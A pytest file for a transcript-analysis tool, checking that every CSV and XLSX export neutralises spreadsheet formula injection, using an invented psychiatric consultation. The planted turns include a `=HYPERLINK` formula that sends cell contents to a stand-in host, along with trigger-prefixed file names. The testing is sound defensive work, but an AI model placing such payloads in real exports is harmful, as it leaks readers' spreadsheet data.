"""No CSV or XLSX output of cakit can run as a formula (the "Safe to share" issue).

A small invented Jefferson consultation (no real patient) has patient turns starting with
every character that makes a spreadsheet program read a cell as a formula, and a
`=HYPERLINK(…)` turn. Turn text reaches the start of a cell in the review sheet's context
column; the rest of the outputs hold ids, file names, names and numbers, so the same
consultation is written under six file names that themselves start with `=`, `+`, `-`,
`@`, tab and carriage return (the file stem is the consultation id), its header declares a
clinician whose name starts with `-`, and a clinician gives a phone number that starts
with `+` (de-identification lists it in the audit log). Every command's every CSV and XLSX
output is then read back the way a spreadsheet program would see it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from cakit.cli import cli
from cakit.report.deid import KEY_ENV
from cakit.spreadsheet import (
    PLACEHOLDER,
    TRIGGERS,
    append_row,
    csv_records,
    csv_text,
    neutralise,
    restore,
)
from cakit.store.sheet import MACHINE_COLUMNS, MACHINE_SHEET

#: Invented. A tab or carriage return at the start of a turn does not survive reading (the
#: reader strips the whitespace after the speaker; a carriage return ends the line), which
#: is why the file names carry those two.
PLANTED = """\
Title: follow-up (invented for cakit's spreadsheet tests)
Participants: Dr = -Dr Vance (psychiatrist), P = patient

Dr:   hello, come in and have a seat.
P:    =the voices tell me things at night.
Dr:   =mm.
P:    yeah.
Dr:   and how is your sleep?
P:    +why do the voices only come at night?
Dr:   mm.
P:    I don't know.
Dr:   and your appetite?
P:    -the men in the van follow me every day.
Dr:   okay.
P:    yeah.
Dr:   and are you working at the moment?
P:    @the voices scare me so much I stay in my room.
Dr:   right.
P:    yeah.
Dr:   and how is your mum?
P:    =HYPERLINK("http://x?leak="&A1,"click") the voices say I am useless.
Dr:   mm.
P:    yeah.
Dr:   and the tablets?
P:    \tthey were following me again on Tuesday.
Dr:   okay.
P:    yeah.
Dr:   anything else?
P:    \rthe voices tell me to hide.
Dr:   call the team on +44 7700 900123 if it gets worse.
P:    okay.
"""
#: One copy per trigger, named so that the file name and the consultation id start with it.
NAMES = tuple(f"{trigger}plant.txt" for trigger in TRIGGERS)
#: A number as the csv module writes one (a leading `-` is then not a formula).
_NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?|-?inf|nan")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The planted transcripts, with a store shared by the module's tests."""
    root = tmp_path_factory.mktemp("planted")
    for name in NAMES:
        (root / name).write_text(PLANTED, encoding="utf-8")
    return root


@pytest.fixture()
def here(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Run from the transcripts' folder (so the file names are the paths cakit writes)
    with a temporary pseudonym key; returns a folder for the outputs."""
    monkeypatch.chdir(folder)
    monkeypatch.setenv(KEY_ENV, str(tmp_path / "deid.key"))
    out = tmp_path / "out"
    out.mkdir()
    return out


def _run(*args: str) -> None:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output


def _store(folder: Path) -> list[str]:
    return ["--store", str(folder / "store")]


def _decide(folder: Path, out: Path, coder: str, decision: str, note: str = "") -> Path:
    """Export a review sheet of every planted file and give every row this decision."""
    sheet = out / f"{coder}.xlsx"
    _run("review-sheet", "export", *_store(folder), "-o", str(sheet), "--", *NAMES)
    book = load_workbook(sheet)
    machine = book[MACHINE_SHEET]
    column = {name: k + 1 for k, name in enumerate(MACHINE_COLUMNS)}
    for number in range(2, machine.max_row + 1):
        machine.cell(row=number, column=column["decision"], value=decision)
        # text, as Excel keeps `'=…` typed into a cell (openpyxl would store a formula)
        machine.cell(row=number, column=column["note"], value=note).data_type = "s"
    book.save(sheet)
    _run("review-sheet", "import", str(sheet), "--coder", coder, *_store(folder))
    return sheet


# -- each command's CSV and XLSX files ---------------------------------------------------

def _annotate(folder: Path, out: Path) -> list[Path]:
    target = out / "codes.csv"
    _run("annotate", *_store(folder), "--format", "csv", "-o", str(target), "--", *NAMES)
    return [target]


def _summary(folder: Path, out: Path) -> list[Path]:
    target = out / "summary.csv"
    # file names as written: pseudonyms would hide the planted names from the cells
    _run("summary", "--format", "csv", "-o", str(target), "--no-deidentify", "--", *NAMES)
    return [target]


def _report(fmt: str) -> Any:
    def write(folder: Path, out: Path) -> list[Path]:
        targets = []
        for view in ("phase", "consultation", "clinician", "carer"):
            target = out / f"report-{view}.{fmt}"
            # ids as written: pseudonyms would hide the planted file names from the cells
            _run("report", *_store(folder), "--by", view, "--format", fmt, "-o", str(target),
                 "--no-deidentify", "--", *NAMES)
            targets.append(target)
        return targets
    return write


def _report_audit(folder: Path, out: Path) -> list[Path]:
    target = out / "report.html"
    _run("report", *_store(folder), "--format", "html", "-o", str(target), "--", *NAMES)
    return [out / "report.html.deid-audit.csv"]


def _excerpts_audit(folder: Path, out: Path) -> list[Path]:
    target = out / "excerpts.txt"
    _run("excerpts", *_store(folder), "-o", str(target), "--", *NAMES)
    return [out / "excerpts.txt.deid-audit.csv"]


def _agree(folder: Path, out: Path) -> list[Path]:
    """Coverage and coefficients: no transcript text reaches them. The code asked for with
    `--code` once reached the code column as typed; now only a label a coder gave does,
    so a formula-like `--code` is refused and the labels planted are the codes'."""
    _decide(folder, out, "ann", "reject")
    target = out / "agree.csv"
    refused = CliRunner().invoke(cli, ["agree", "--coders", "auto", "ann", *_store(folder),
                                       "--format", "csv", "--code", "=PSY_ATTEMPT", "-o",
                                       str(target), "--", *NAMES])
    assert refused.exit_code == 2 and not target.exists()
    _run("agree", "--coders", "auto", "ann", *_store(folder), "--format", "csv",
         "--disagreements", "--include-undecided", "-o", str(target), "--", *NAMES)
    return [target]


def _disagreements(folder: Path, out: Path) -> list[Path]:
    _decide(folder, out, "ann", "reject")
    target = out / "disagreements.csv"
    _run("agree", "--coders", "auto", "ann", *_store(folder), "--format", "csv",
         "--disagreements", "-o", str(target), "--", *NAMES)
    return [target]


def _review_sheet(folder: Path, out: Path) -> list[Path]:
    target = out / "review.xlsx"
    _run("review-sheet", "export", *_store(folder), "-o", str(target), "--", *NAMES)
    return [target]


OUTPUTS = {
    "annotate-csv": _annotate,
    "summary-csv": _summary,
    "report-csv": _report("csv"),
    "report-xlsx": _report("xlsx"),
    "report-html-audit-csv": _report_audit,
    "excerpts-audit-csv": _excerpts_audit,
    "agree-csv": _agree,
    "agree-disagreements-csv": _disagreements,
    "review-sheet-xlsx": _review_sheet,
}


def _csv_tables(text: str) -> Iterator[list[list[str]]]:
    """The tables of a CSV file (cakit agree writes two, an empty line between them)."""
    table: list[list[str]] = []
    for row in csv.reader(io.StringIO(text, newline="")):
        if not row:
            if table:
                yield table
            table = []
            continue
        table.append(row)
    if table:
        yield table


def _csv_problems(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8")
    problems = []
    tables = list(_csv_tables(text))
    assert tables and all(len(t) > 1 for t in tables), \
        f"{path.name}: a header with no rows under it (a row split by a line break?)"
    for table in tables:
        width = len(table[0])
        for number, row in enumerate(table, 1):
            if len(row) != width:
                problems.append(f"{path.name} row {number}: {len(row)} cells, not {width}")
            problems.extend(f"{path.name} row {number}: {cell!r}" for cell in row
                            if cell.startswith(TRIGGERS) and not _NUMBER.fullmatch(cell))
    return problems


def _xlsx_problems(path: Path) -> list[str]:
    problems = []
    book = load_workbook(path, data_only=False)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{path.name} {sheet.title}!{cell.coordinate}"
                if cell.data_type not in ("s", "n", "b"):  # b: True/False columns
                    problems.append(f"{where}: data type {cell.data_type!r} ({cell.value!r})")
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    problems.append(f"{where}: {cell.value!r}")
    return problems


def _planted_reach(paths: Sequence[Path]) -> bool:
    """Whether a planted value is in the output at all (so the check checks something):
    a file name or consultation id, or the code given to `cakit agree`."""
    text = ""
    for path in paths:
        if path.suffix == ".xlsx":
            book = load_workbook(path)
            text += "\n".join(str(cell.value) for sheet in book.worksheets
                              for row in sheet.iter_rows() for cell in row)
        else:
            text += path.read_text(encoding="utf-8")
    return "plant" in text or "=PSY_ATTEMPT" in text


@pytest.mark.parametrize("output", list(OUTPUTS))
def test_spreadsheet_outputs_hold_no_formula(output: str, folder: Path, here: Path) -> None:
    paths = OUTPUTS[output](folder, here)
    assert all(path.is_file() for path in paths), paths
    assert _planted_reach(paths)
    problems = [problem for path in paths
                for problem in (_xlsx_problems(path) if path.suffix == ".xlsx"
                                else _csv_problems(path))]
    assert problems == []


def test_spreadsheet_review_sheet_shows_planted_turns_neutralised(folder: Path,
                                                                  here: Path) -> None:
    (sheet,) = _review_sheet(folder, here)
    machine = load_workbook(sheet)[MACHINE_SHEET]
    context = {row[MACHINE_COLUMNS.index("context")]
               for row in machine.iter_rows(min_row=2, values_only=True)}
    for turn in ("=the voices tell me things at night.",
                 "+why do the voices only come at night?",
                 "-the men in the van follow me every day.",
                 "@the voices scare me so much I stay in my room.",
                 '=HYPERLINK("http://x?leak="&A1,"click") the voices say I am useless.'):
        assert f"'{turn}" in context, turn
    transcripts = {row[0] for row in machine.iter_rows(min_row=2, values_only=True)}
    assert transcripts == {f"'{name}" for name in NAMES}


def test_spreadsheet_review_sheet_round_trips_decisions_and_notes(folder: Path,
                                                                   here: Path) -> None:
    """Import matches the neutralised transcript and id cells to the same codes, and a
    note starting with `=` is shown neutralised but comes back as written, round after
    round (it never gains a `'`)."""
    from cakit.project import corpus_file
    from cakit.store import layer_path, read_layer

    note = '=2 voices, "see" line 6'
    sheet = _decide(folder, here, "bo", "accept", note)
    machine = load_workbook(sheet)[MACHINE_SHEET]
    rows = [dict(zip(MACHINE_COLUMNS, row, strict=True))
            for row in machine.iter_rows(min_row=2, values_only=True)]
    expected = {(restore(str(r["transcript"])), str(r["id"])) for r in rows}
    assert {r["transcript"] for r in rows} == {f"'{name}" for name in NAMES}
    for round_trip in range(3):
        again = here / f"again-{round_trip}.xlsx"
        _run("review-sheet", "export", *_store(folder), "--coder", "bo", "-o", str(again),
             "--", *NAMES)
        machine = load_workbook(again)[MACHINE_SHEET]
        notes = {row[MACHINE_COLUMNS.index("note")]
                 for row in machine.iter_rows(min_row=2, values_only=True)}
        assert notes == {f"'{note}"}, round_trip
        _run("review-sheet", "import", str(again), "--coder", "bo", *_store(folder))
        stored = set()
        for name in NAMES:
            layer = read_layer(layer_path(folder / "store", "bo", corpus_file(Path(name))
                                          .identity))
            assert layer is not None, name
            stored |= {(name, d.target, d.decision, d.note) for d in layer.decisions}
        assert stored == {(source, target, "accept", note) for source, target in expected}


def test_spreadsheet_review_sheet_human_codes_match_a_copied_path(folder: Path,
                                                                   here: Path) -> None:
    """A path a coder copies from the machine sheet into "human codes" still matches."""
    from cakit.project import corpus_file
    from cakit.store import layer_path, read_layer
    from cakit.store.sheet import HUMAN_SHEET

    (sheet,) = _review_sheet(folder, here)
    book = load_workbook(sheet)
    copied = book[MACHINE_SHEET].cell(row=2, column=1).value
    assert copied == f"'{NAMES[0]}"
    book[HUMAN_SHEET].append([copied, 32, "PSY_ATTEMPT", "PSY_ASSERT", None, "@ home"])
    book.save(sheet)
    _run("review-sheet", "import", str(sheet), "--coder", "cy", *_store(folder))
    layer = read_layer(layer_path(folder / "store", "cy", corpus_file(Path(NAMES[0])).identity))
    assert layer is not None
    assert [(c.label, c.anchor.line, c.note) for c in layer.codes] == \
        [("PSY_ATTEMPT/PSY_ASSERT", 32, "@ home")]


def test_spreadsheet_report_xlsx_replaces_control_characters(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch
                                                              ) -> None:
    """A control character (here in a file name, so in the consultation id) is shown as
    the placeholder instead of stopping the workbook from being written."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bell\x07.txt").write_text(PLANTED, encoding="utf-8")
    target = tmp_path / "report.xlsx"
    _run("report", "--no-store", "--by", "consultation", "--format", "xlsx", "-o", str(target),
         "--no-deidentify", "bell\x07.txt")
    values = [cell.value for cell in load_workbook(target)["by_consultation"]["A"]]
    assert values == ["consultation", f"bell{PLACEHOLDER}"]


# -- the function itself -----------------------------------------------------------------

@pytest.mark.parametrize("value", [-0.25, -3, 0, 1.5, float("-inf"), None, True])
def test_spreadsheet_neutralise_leaves_numbers_and_non_text_alone(value: object) -> None:
    assert neutralise(value) is value


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_spreadsheet_neutralise_prefixes_each_trigger(trigger: str) -> None:
    text = f"{trigger}the voices tell me things"
    assert neutralise(text) == f"'{text}"
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "the voices", "it's fine", "'tis late", "a=b", "x-1",
                                  " =padded", "\n=after a newline", "'"])
def test_spreadsheet_neutralise_leaves_safe_text_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", ["'=x", "''+y", "=HYPERLINK(\"http://x?leak=\"&A1,\"c\")",
                                  "-0.25", "@"])
def test_spreadsheet_restore_inverts_neutralise(text: str) -> None:
    written = neutralise(text)
    assert isinstance(written, str) and not written.startswith(TRIGGERS)
    assert restore(written) == text


def test_spreadsheet_csv_quotes_a_carriage_return_and_keeps_numbers() -> None:
    text = csv_text([["\rhide", "a\rb", -0.25, None, "=1+1"]], header=["x", "y", "z", "w", "v"])
    assert text.endswith("\n") and not text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == \
        [["x", "y", "z", "w", "v"], ["'\rhide", "a\rb", "-0.25", "", "'=1+1"]]
    assert csv_records([{"b": "@x", "a": 1}], ["a", "b"], header=False) == "1,'@x\n"


def test_spreadsheet_append_row_writes_text_never_formulas() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, ["=SUM(1,2)", "bell\x07", -0.25, None, "", "+x"])
    data = io.BytesIO()
    book.save(data)
    cells = list(load_workbook(io.BytesIO(data.getvalue()), data_only=False).active[1])
    assert [c.value for c in cells] == \
        ["'=SUM(1,2)", f"bell{PLACEHOLDER}", -0.25, None, None, "'+x"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "n", "s"]
